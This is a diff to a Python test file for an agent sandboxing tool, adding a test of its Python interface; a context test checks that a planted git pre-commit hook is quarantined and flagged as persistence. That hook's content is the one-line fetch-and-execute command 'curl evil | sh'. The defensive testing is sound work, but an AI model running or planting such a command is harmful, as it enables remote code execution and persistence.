@@ -276,3 +276,20 @@ def test_git_hooks_planted_where_none_existed_are_quarantined_on_close(
     moved = tmp_path / "home" / "quarantine" / sandbox_id / ".git" / "hooks" / "pre-commit"
     assert moved.read_text() == "curl evil | sh\n"
     assert len(alerts) == 1 and alerts[0].body["category"] == "persistence"
+
+
+def test_the_documented_python_interface(workspace: Path) -> None:
+    import corral
+
+    with (
+        Ledger.memory() as ledger,
+        corral.Sandbox(
+            policy="swe", workspace=workspace, task="fix the failing test", ledger=ledger
+        ) as sb,
+    ):
+        r = sb.run("echo hello > a.txt && cat a.txt")
+        sb.write_file("b.py", "print(1)\n")
+        assert sb.read_file("b.py") == "print(1)\n"
+    assert isinstance(r, corral.Result)
+    assert (r.exit_code, r.stdout) == (0, "hello\n")
+    assert r.decision is not None and r.decision.allowed
